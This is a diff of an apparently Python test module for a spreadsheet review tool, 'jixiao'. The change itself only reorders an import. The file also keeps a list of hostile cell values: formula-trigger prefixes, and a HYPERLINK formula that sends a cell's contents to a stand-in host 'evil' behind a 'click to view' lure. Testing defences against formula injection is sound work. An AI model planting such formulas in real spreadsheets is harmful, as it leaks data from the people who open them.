@@ -9,12 +9,12 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from xml_cells import formulas, texts
 
 from jixiao import pipeline
 from jixiao.io.loading import load_path
 from jixiao.io.review_xlsx import write_review
 from testdata import PINGSHAN
+from xml_cells import formulas, texts
 
 HOSTILE = ['=HYPERLINK("http://evil/?leak="&A3,"点我查看")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]
